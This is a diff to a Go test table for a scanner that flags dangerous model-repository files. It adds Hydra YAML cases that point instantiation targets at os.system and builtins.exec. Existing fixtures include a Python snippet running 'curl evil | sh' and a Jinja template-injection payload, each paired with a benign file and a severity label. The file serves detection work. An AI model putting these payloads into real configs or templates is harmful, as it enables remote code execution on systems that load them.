@@ -53,6 +53,11 @@ func TestConfigStage(t *testing.T) {
 		{"shipped_config.json", []byte(`{"auto_map": {"AutoModel": "modeling_x.XModel"}}`), Medium, "config.shipped-code"},
 		{"modeling_x.py", []byte("import os\nclass X:\n    def __init__(self):\n        os.system('curl evil | sh')\n"), Critical, "python.dangerous-call"},
 		{"modeling_ok.py", []byte("import os\nimport torch\nclass X(torch.nn.Module):\n    def load(self, d):\n        return os.path.join(d, 'w.bin')\n"), "none", ""},
+		{"computed.yaml", []byte("vars:\n  t: os.system\nmodel:\n  _target_: ${vars.t}\n"), High, "config.computed-target"},
+		{"interp_ok.yaml", []byte("model:\n  _target_: torch.nn.Linear\n  in_features: ${dims.in}\n"), "none", ""},
+		{"locate.yaml", []byte("act:\n  _target_: hydra.utils.get_method\n  path: builtins.exec\n"), Critical, "config.instantiation"},
+		{"locate_ok.yaml", []byte("act:\n  _target_: hydra.utils.get_class\n  path: torch.nn.ReLU\n"), "none", ""},
+		{"locate_none.yaml", []byte("act:\n  _target_: hydra.utils.get_method\n  _args_: [\"${x}\"]\n"), High, "config.instantiation"},
 		{"chat_template.jinja", []byte("{{ ''.__class__.__mro__[1].__subclasses__() }}"), Critical, "template.injection"},
 		{"benign_chat_template.jinja", []byte("{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"), "none", ""},
 	})
